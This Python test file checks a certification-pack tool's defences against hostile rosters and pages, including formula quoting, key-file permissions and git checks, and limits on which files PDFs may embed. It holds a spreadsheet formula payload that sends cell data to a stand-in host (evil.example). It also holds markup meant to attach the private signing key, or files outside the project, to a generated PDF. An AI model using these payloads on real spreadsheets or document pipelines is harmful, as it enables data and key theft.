"""Packs against careless or hostile input: rosters, keys, validity, and what PDFs may read."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from conftest import PACK_EPOCH, REPO, ROSTER, SAMPLE_PACK, copy_sample, copy_small_sample, run_glocal
from glocal.diagnostics import Related, Span
from glocal.load import load_project
from glocal.packs import forms
from glocal.packs.roster import read_roster

EPOCH = "1700000000"
HEADER = "id,name,email,attended,knowledge_check,teach_back,observed_deliveries"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def roster_line(ident: str, name: str = "Lê Thu Hà", knowledge: str = "92") -> str:
    quoted = '"' + name.replace('"', '""') + '"'
    return f"{ident},{quoted},ha.le@example.vn,all,{knowledge},3.5,1"


def write(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def image(path: Path, width: int, height: int) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (width, height), (200, 10, 10)).save(path)
    return path


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    """A small copy of the sample (conftest) with an issuer key: these tests are about the roster,
    the key and what a pack's documents may embed, not about the program's content."""
    root = copy_small_sample(tmp_path_factory.mktemp("hardening") / "sample")
    assert run_glocal("-C", root, "keygen").code == 0
    return root


@pytest.fixture(scope="module")
def loaded(project):
    loaded_project, _ = load_project(project)
    return loaded_project


# ------------------------------------------------------------------------------ rosters


@pytest.mark.parametrize(
    "first, second, name",
    [("a/b", "a-b", "a-b"), ("vn 07", "vn-07", "vn-07"), ("VN-08", "vn-08", "VN-08")],
)
def test_ids_that_collide_once_file_safe_are_gl539_naming_both_rows(loaded, tmp_path, first, second, name):
    path = write(
        tmp_path / "cohort.csv", [HEADER, roster_line("vn-01"), roster_line(first), roster_line(second)]
    )
    roster = read_roster(path, "cohort.csv", loaded.certification, list(loaded.modules))
    [collision] = roster.diagnostics
    assert collision.code == "GL539"
    assert collision.span == Span("cohort.csv", 3, 0)
    assert collision.related == (Related(Span("cohort.csv", 2, 0), "other id"),)
    assert collision.to_text().startswith(
        f"cohort.csv:4:1: error GL539: trainee ids '{first}' and '{second}' both become the file name "
        f"'{name if first != 'VN-08' else 'vn-08'}': one trainee's certificate would replace the other's "
        "(other id at line 3)"
    )


def test_colliding_ids_write_no_pack(project, tmp_path):
    roster = write(tmp_path / "cohort.csv", [HEADER, roster_line("a/b"), roster_line("a-b")])
    result = run_glocal("-C", project, "pack", "vietnam/vi", "--roster", roster, "--out", tmp_path / "out")
    assert result.code == 1
    assert f"{roster}:3:1: error GL539: trainee ids 'a/b' and 'a-b'" in result.err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("lines", [[HEADER], [HEADER, "", ",,,,,,"]], ids=["header only", "blank rows"])
def test_a_roster_without_trainees_is_gl540_and_no_pack(project, loaded, tmp_path, lines):
    path = write(tmp_path / "cohort.csv", lines)
    roster = read_roster(path, "cohort.csv", loaded.certification, list(loaded.modules))
    assert [d.to_text() for d in roster.diagnostics] == [
        "cohort.csv:1:1: error GL540: the roster has a header but no trainees: "
        "expected one row per trainee under it"
    ]
    result = run_glocal("-C", project, "pack", "vietnam/vi", "--roster", path, "--out", tmp_path / "out")
    assert result.code == 1 and "GL540" in result.err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Lê Thu Hà", "Lê Thu Hà"),
        ("a=b", "a=b"),
        (92, "92"),
    ],
)
def test_csv_cells_that_start_like_a_formula_get_a_quote(value, expected):
    assert forms.csv_cell(value) == expected


# ------------------------------------------------------------------------------ a whole pack


@pytest.fixture(scope="module")
def hostile_pack(project, loaded, tmp_path_factory):
    """A pack whose module embeds a file outside the project (and one inside), for a roster with formulas."""
    base = tmp_path_factory.mktemp("hostile")
    outside = image(base / "outside" / "secret.png", 7, 13)
    image(project / "curriculum" / "assets" / "inside-hardening.png", 5, 11)
    module = project / next(iter(loaded.modules.values())).path  # a module of the program
    original = module.read_text(encoding="utf-8")
    key = project / ".glocal" / "keys" / "issuer-ed25519.key"  # what `keygen` wrote: never to leave
    module.write_text(
        original + f"\n\n![secret]({outside.as_uri()}) ![inside](../assets/inside-hardening.png)\n"
        # WeasyPrint attaches a file an `<a rel="attachment">` or `<link rel="attachment">` names
        f'\n<a rel="attachment" href="{key.as_uri()}">annex</a>'
        f' <link rel="attachment" href="{key.as_uri()}">\n',
        encoding="utf-8",
    )
    roster = write(
        base / "hostile.csv",
        [HEADER, roster_line("vn-01", FORMULA_NAME), roster_line("@vn-02", "+Nguyễn", knowledge="10")],
    )
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
            result = run_glocal(
                "-C", project, "pack", "vietnam/vi", "--roster", roster, "--out", base / "out"
            )
    finally:
        module.write_text(original, encoding="utf-8")
    assert result.code == 0, result.err
    with zipfile.ZipFile(base / "out" / "packs" / "vietnam-vi-hostile.zip") as archive:
        files = {info.filename: archive.read(info) for info in archive.infolist()}
    return {"result": result, "files": files, "outside": outside}


def test_results_csv_neutralises_formula_cells(hostile_pack):
    rows = list(csv.reader(io.StringIO(hostile_pack["files"]["records/results.csv"].decode("utf-8"))))
    assert [row[:2] for row in rows[1:]] == [["vn-01", "'" + FORMULA_NAME], ["'@vn-02", "'+Nguyễn"]]
    assert not any(cell.startswith(forms.FORMULA_START) for row in rows for cell in row)


def test_the_issuers_key_named_in_a_page_is_not_attached_to_the_guide(hostile_pack):
    """An author who knows the project's path named the signing key in a link WeasyPrint attaches:
    the guide carried it, and anyone given the pack could sign credentials."""
    guide = hostile_pack["files"]["guide/facilitator-guide.pdf"]
    assert b"/EmbeddedFile" not in guide and b"PRIVATE KEY" not in guide
    assert not any(b"PRIVATE KEY" in data for data in hostile_pack["files"].values())
    key = "/.glocal/keys/issuer-ed25519.key, which a pack does not embed"  # and the author is told
    assert key in hostile_pack["result"].err


def test_a_file_outside_the_project_is_not_embedded(hostile_pack):
    guide = hostile_pack["files"]["guide/facilitator-guide.pdf"]
    assert b"/Width 5" in guide and b"/Height 11" in guide  # the image inside the project is there
    assert b"/Width 7" not in guide and b"/Height 13" not in guide  # the one outside is not
    assert (
        f"warning GL544: a pack document refers to {hostile_pack['outside'].as_uri()}, which a pack does "
        "not embed" in hostile_pack["result"].err
    )


def test_the_url_fetcher_refuses_the_network_and_files_outside(tmp_path):
    from glocal.packs import documents

    inside = image(tmp_path / "project" / "in.png", 5, 11)
    outside = image(tmp_path / "elsewhere" / "out.png", 7, 13)
    link = tmp_path / "project" / "link.png"
    link.symlink_to(outside)  # a symlink inside the project to a file outside it
    refused: list[str] = []
    html = "".join(
        f'<img src="{src}">'
        for src in (
            inside.as_uri(),
            outside.as_uri(),
            link.as_uri(),
            "../elsewhere/out.png",
            "http://127.0.0.1:9/x.png",
        )
    )
    pdf = documents.pdf(
        f"<p>{html}</p>", tmp_path / "project", base_url=tmp_path / "project" / "x.html", refused=refused
    )
    assert b"/Width 5" in pdf and b"/Width 7" not in pdf
    # (WeasyPrint asks once per URL: ../elsewhere/out.png resolves to the outside file's URL)
    assert set(refused) == {outside.as_uri(), link.as_uri(), "http://127.0.0.1:9/x.png"}


def test_the_url_fetcher_embeds_only_images_outside_hidden_folders(tmp_path):
    from glocal.packs import documents

    root = tmp_path / "project"
    shown = image(root / "curriculum" / "assets" / "in.png", 5, 11)
    hidden = image(root / ".glocal" / "keys" / "k.png", 7, 13)  # an image, but in a hidden folder
    secret = root / "notes.txt"
    secret.write_text("not an image", encoding="utf-8")
    for target, expected in ((shown, True), (hidden, False), (secret, False), (root / "mkdocs.yml", False)):
        assert documents.embeddable(target.resolve(), root.resolve()) is expected, target


# ------------------------------------------------------------------------------ keys


def git(folder: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(folder), *args], check=True, capture_output=True)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_keygen_refuses_a_path_git_would_commit(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    result = run_glocal("-C", repo, "keygen", "--out", "secrets/issuer.key")
    assert result.code == 2
    target = repo / "secrets" / "issuer.key"
    assert result.err.startswith(
        f"{target}: error GL541: refusing to write a private key where git would commit it: "
        f"{target} is inside the git work tree {repo} and git does not ignore it"
    )
    assert not target.exists()

    (repo / ".gitignore").write_text("secrets/\n", encoding="utf-8")
    assert run_glocal("-C", repo, "keygen", "--out", "secrets/issuer.key").code == 0
    assert target.is_file()


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_keygen_refuses_a_tracked_path_even_if_ignored(tmp_path):
    repo = tmp_path / "repo"
    (repo / "keys").mkdir(parents=True)
    git(repo, "init", "-q")
    (repo / "keys" / "issuer.key").write_text("placeholder\n", encoding="utf-8")
    git(repo, "add", "keys/issuer.key")  # a scratch repository of the test's own, not the checkout
    (repo / "keys" / "issuer.key").unlink()
    (repo / ".gitignore").write_text("*.key\n", encoding="utf-8")
    result = run_glocal("-C", repo, "keygen", "--out", "keys/issuer.key")
    assert result.code == 2
    assert "error GL541" in result.err and "is tracked by git" in result.err


def test_keygen_outside_any_repository_is_allowed(tmp_path):
    result = run_glocal("-C", tmp_path, "keygen", "--out", "issuer.key")
    assert result.code == 0, result.err


def test_pack_refuses_a_key_others_can_read(project, tmp_path):
    key = tmp_path / "shared.key"
    shutil.copy(project / ".glocal" / "keys" / "issuer-ed25519.key", key)
    os.chmod(key, 0o644)
    roster = project / ROSTER
    result = run_glocal(
        "-C", project, "pack", "vietnam/vi", "--roster", roster, "--key", key, "--out", tmp_path / "out"
    )
    assert result.code == 1
    assert (
        f"{key}: error GL542: the signing key {key} is readable or writable by others than its owner "
        "(mode 0644) "
        f"(hint: chmod 600 {key}" in result.err
    )
    # a new key is one keygen writes elsewhere, or once this one is moved away: it never overwrites
    assert "keygen never overwrites one, so move this one away first" in result.err
    assert not (tmp_path / "out").exists()
    assert stat.S_IMODE(key.stat().st_mode) == 0o644  # glocal does not change the user's file


def test_pack_with_a_huge_validity_is_gl543_not_a_traceback(tmp_path):
    root = copy_sample(tmp_path / "sample")
    certification = root / "toolkits" / "ttt" / "certification.yml"
    text = certification.read_text(encoding="utf-8")
    assert "\nvalidity_months: 24\n" in text
    certification.write_text(
        text.replace("\nvalidity_months: 24\n", "\nvalidity_months: 100000\n"), encoding="utf-8"
    )
    assert run_glocal("-C", root, "check").code == 0  # check accepts it
    assert run_glocal("-C", root, "keygen").code == 0
    result = run_glocal(
        "-C", root, "pack", "vietnam/vi", "--roster", REPO / "examples" / "cohort-vietnam.csv"
    )
    assert result.code == 1
    line = text.split("\n").index("validity_months: 24") + 1
    assert (
        f"toolkits/ttt/certification.yml:{line}:18: error GL543: 'validity_months' is 100000: "
        "the end of validity would be past the year 9999" in result.err
    )
    assert "Traceback" not in result.err


def test_pack_with_a_missing_key_or_roster_exits_2(project, tmp_path):
    roster = project / ROSTER
    missing_key = run_glocal(
        "-C", project, "pack", "vietnam/vi", "--roster", roster, "--key", tmp_path / "nope.key"
    )
    assert missing_key.code == 2 and "GL530" in missing_key.err
    missing_roster = run_glocal("-C", project, "pack", "vietnam/vi", "--roster", tmp_path / "nope.csv")
    assert missing_roster.code == 2 and "GL525" in missing_roster.err


def test_the_pack_does_not_depend_on_the_project_folder(small_pack, tmp_path):
    """The same sources, key and epoch in two folders give the same bytes: the pack is
    deterministic, and no absolute path is in any PDF. The PDFs of `small_pack` were rendered by
    two worker processes, these by one (`-j 1`): the pack is the same whatever the number of
    cores. (On a small copy of the sample, conftest's `small_pack`: none of this depends on how
    many modules the program has.)"""
    elsewhere = copy_small_sample(tmp_path / "a much longer folder name" / "sample")
    (elsewhere / ".glocal" / "keys").mkdir(parents=True)
    shutil.copy2(small_pack / ".glocal" / "keys" / "issuer-ed25519.key", elsewhere / ".glocal" / "keys")
    roster = small_pack / ROSTER  # the roster small_pack was made from, as both packs name it
    packs = [(small_pack / "dist" / "packs" / SAMPLE_PACK).read_bytes()]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", PACK_EPOCH)
        out = tmp_path / "out"
        result = run_glocal(
            "-C", elsewhere, "pack", "vietnam/vi", "--roster", roster, "--out", out, "-j", "1"
        )
        assert result.code == 0, result.err
        assert result.out.splitlines() == [  # the command says what it did
            f"pack {out / 'packs' / SAMPLE_PACK}",
            "certified: 3 (vn-01, vn-02, vn-06); not yet certified: 3 (vn-03, vn-04, vn-05)",
        ]
        packs.append((out / "packs" / SAMPLE_PACK).read_bytes())
    assert packs[0] == packs[1]
    with zipfile.ZipFile(io.BytesIO(packs[0])) as archive:
        guide = archive.read("guide/facilitator-guide.pdf")
    assert b"file://" not in guide
